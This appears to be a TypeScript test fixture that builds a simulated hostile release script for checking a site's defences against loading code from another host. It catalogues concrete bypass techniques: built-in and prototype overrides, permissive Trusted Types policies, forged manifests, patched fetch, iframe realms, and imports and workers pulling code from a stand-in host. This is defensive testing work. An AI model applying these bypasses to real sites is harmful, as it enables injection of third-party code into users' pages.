/** Where a hostile release gets more code from: neither this site nor a vendor of it. */
export const evilHost = "https://cdn.example";

/**
 * What a hostile release does once its entry runs, by name. Each is the body of a function with `evil`, the address of a script of
 * another host, and `add`, which adds a script element with an address, and notes the address when it is not refused; `replace` replaces a function until the attack is over, so that the test can look at the page after it.
 */
export const attacks = {
  "replaces the functions that a check would call": `
    const yes = () => true;
    for (const key of ["includes", "some", "every"]) replace(Array.prototype, key, yes);
    replace(Array.prototype, "indexOf", () => 0);
    for (const key of ["includes", "startsWith", "endsWith"]) replace(String.prototype, key, yes);
    replace(String.prototype, "split", () => ["", "_release", "shell"]);
    replace(String.prototype, "slice", () => "");
    for (const [owner, key] of [[Object, "hasOwn"], [Object, "is"], [Reflect, "has"], [Object.prototype, "hasOwnProperty"], [RegExp.prototype, "test"], [Map.prototype, "has"], [Map.prototype, "get"], [Set.prototype, "has"]]) replace(owner, key, yes);
    replace(RegExp.prototype, "exec", () => [evil]);
    replace(JSON, "parse", () => ({ packages: { shell: { version: "1", entry: evil, scripts: { [evil]: "" } } } }));
    replace(window, "TypeError", function () { return evil; });
    for (const key of ["call", "apply", "bind"]) replace(Function.prototype, key, yes);
    replace(Array.prototype, Symbol.iterator, function* () { yield evil; });
    add(evil); add("//cdn.example/evil.js");`,
  "replaces addresses": `
    window.URL = class { origin = location.origin; pathname = "/_release/shell/core.js"; search = ""; href = location.href; };
    window.URLSearchParams = class {};
    window.RegExp = class { exec() { return [1]; } test() { return true; } };
    try { Object.defineProperty(window, "origin", { value: "https://cdn.example" }); } catch {}
    add(evil); add("/../evil.js"); add("https:/\\\\cdn.example/evil.js"); add(" " + evil); add(evil + "#" + location.origin);`,
  "writes names into the prototype of all objects": `
    for (const name of [evil, "/evil.js", location.origin + "/evil.js"]) Object.prototype[name] = 1;
    Object.prototype.hosts = Object.prototype.scriptHosts = Object.prototype.scripts = { [evil]: "" };
    add(evil);`,
  "replaces what sets addresses": `
    const { set } = Object.getOwnPropertyDescriptor(HTMLScriptElement.prototype, "src");
    Element.prototype.setAttribute = function (name, value) { set.call(this, value); };
    const create = Document.prototype.createElement;
    Document.prototype.createElement = function (name) { const made = create.call(this, name); try { made.src = evil; } catch {} return made; };
    EventTarget.prototype.dispatchEvent = () => true;
    const script = document.createElement("script");
    try { script.setAttributeNS(null, "src", evil); } catch {}
    const link = document.createElementNS("http://www.w3.org/1999/xhtml", "img");
    link.setAttributeNS(null, "src", evil);
    try { script.setAttributeNode(link.removeAttributeNode(link.getAttributeNode("src"))); } catch {}
    document.head.append(script);
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "script");
    try { svg.setAttributeNS("http://www.w3.org/1999/xlink", "href", evil); } catch {}
    document.head.append(svg);`,
  "forges what the server writes for the browser": `
    const [boot] = document.querySelectorAll("script");
    for (const element of [boot, document.body, document.documentElement]) {
      for (const key of ["hosts", "scriptHosts", "page", "nav", "set"]) element.dataset[key] = "^|" + evil;
    }
    for (const id of ["site-set", "site-state"]) {
      const found = document.getElementById(id);
      found.textContent = JSON.stringify({ format: 2, packages: { shell: { version: "x", entry: "../../../evil.js", scripts: { [evil]: "", "evil.js": "" } } }, scripts: { [evil]: "" }, heads: [{ script: evil, settings: {} }] });
      document.head.prepend(found.cloneNode(true));
    }
    window.dispatchEvent(new Event("load"));
    window.dispatchEvent(new Event("DOMContentLoaded"));
    add(evil);`,
  "asks for what was handed to the core": `
    const handed = window.__site ?? {};
    for (const give of Object.values(handed)) if (typeof give === "function") for (const path of [evil, "../../" + evil, "//cdn.example/evil.js"]) try { give(path); } catch {}
    window.__site = { allow() {}, queue: [], take() {} };
    add(evil); add("//cdn.example/evil.js"); add("/_release/" + evil);`,
  "makes a policy of its own": `
    for (const name of ["default", "site", "other"]) {
      try {
        const policy = trustedTypes.createPolicy(name, { createScriptURL: (address) => address, createScript: (text) => text, createHTML: (text) => text });
        const script = document.createElement("script");
        script.src = policy.createScriptURL(evil);
        document.head.append(script);
        const inline = document.createElement("script");
        inline.text = policy.createScript("window.__pwned = 'inline'");
        document.head.append(inline);
      } catch {}
    }
    add(evil);`,
  "imports a module and starts workers": `
    import(evil).catch(() => {});
    for (const start of [() => new Worker(evil), () => new SharedWorker(evil), () => new Worker("data:text/javascript,import('" + evil + "')"), () => navigator.serviceWorker.register(evil)]) try { start(); } catch {}
    const module = document.createElement("script");
    module.type = "module";
    try { module.textContent = "import '" + evil + "'"; } catch {}
    document.head.append(module);
    const map = document.createElement("link");
    Object.assign(map, { rel: "modulepreload", href: evil });
    document.head.append(map);`,
  "takes a fresh realm": `
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const inner = frame.contentWindow;
    try { inner.trustedTypes.createPolicy("default", { createScriptURL: (address) => address, createScript: (text) => text, createHTML: (text) => text }); } catch {}
    for (const integrity of ["", window.evilHash]) {
      const script = inner.document.createElement("script");
      script.crossOrigin = "anonymous";
      script.integrity = integrity;
      try { script.src = evil; } catch {}
      inner.document.body.append(script);
    }
    try { inner.eval("parent.__pwned = 'eval'"); } catch {}
    try { frame.srcdoc = "<script src=" + evil + "></script>"; } catch {}`,
  "answers in the place of the server": `
    const forged = { version: "1.0.0-000000000000", entry: evil, messages: "", exposes: { launcher: [evil], page: [evil] }, scripts: { [evil]: "", "../../../evil.js": "", "//cdn.example/evil.js": "" } };
    const real = window.fetch;
    window.fetch = async (url, init) => {
      if (String(url).endsWith("sha384-forged.json")) return new Response(JSON.stringify(forged));
      const answer = await real(url, init && { ...init, integrity: "" });
      if (!String(url).includes("_payload.json")) return answer;
      const payload = await answer.json();
      payload.releases.lobby = { version: "1.0.0-000000000000", integrity: "sha384-forged" };
      return new Response(JSON.stringify(payload));
    };
    document.querySelector("footer a[href$='/cookie-policy/']").click();
    return new Promise((done) => window.addEventListener("site:route:changed", ({ detail }) => {
      if (detail.path !== "/cookie-policy/") return;
      add(evil); add("//cdn.example/evil.js"); add("/_release/lobby/1.0.0-000000000000/" + evil);
      done();
    }));`,
} as const satisfies Record<string, string>;
export type AttackName = keyof typeof attacks;

/** The code of a release that attacks as `window.attackName` says. */
export function toHostileCode(): string {
  const bodies = Object.entries(attacks).map(
    ([name, body]) => `${JSON.stringify(name)}(evil, add, replace) {${body}\n}`,
  );
  return `;(() => {
    const attacks = { ${bodies.join(",\n")} };
    const { createElement } = Document.prototype;
    const { set } = Object.getOwnPropertyDescriptor(HTMLScriptElement.prototype, "src");
    const { head } = document;
    const apply = Reflect.apply;
    const append = Element.prototype.append;
    const admitted = [];
    const add = (address) => {
      const script = apply(createElement, document, ["script"]);
      try {
        apply(set, script, [address]);
        admitted[admitted.length] = address;
      } catch {}
      apply(append, head, [script]);
    };
    const name = window.attackName;
    if (!Object.hasOwn(attacks, name)) return;
    const { defineProperty } = Object;
    const replaced = [];
    const replace = (owner, key, value) => {
      replaced[replaced.length] = { owner, key, value: owner[key] };
      owner[key] = value;
    };
    const end = () => {
      for (let index = replaced.length - 1; index >= 0; index -= 1) defineProperty(replaced[index].owner, replaced[index].key, { value: replaced[index].value, writable: true, configurable: true });
      window.attackAdmitted = admitted;
      window.attackDone = name;
    };
    const { then } = Promise.prototype;
    try {
      const under = attacks[name](${JSON.stringify(`${evilHost}/evil.js`)}, add, replace);
      if (under) return void apply(then, under, [end, end]);
    } catch {}
    end();
  })();\n`;
}
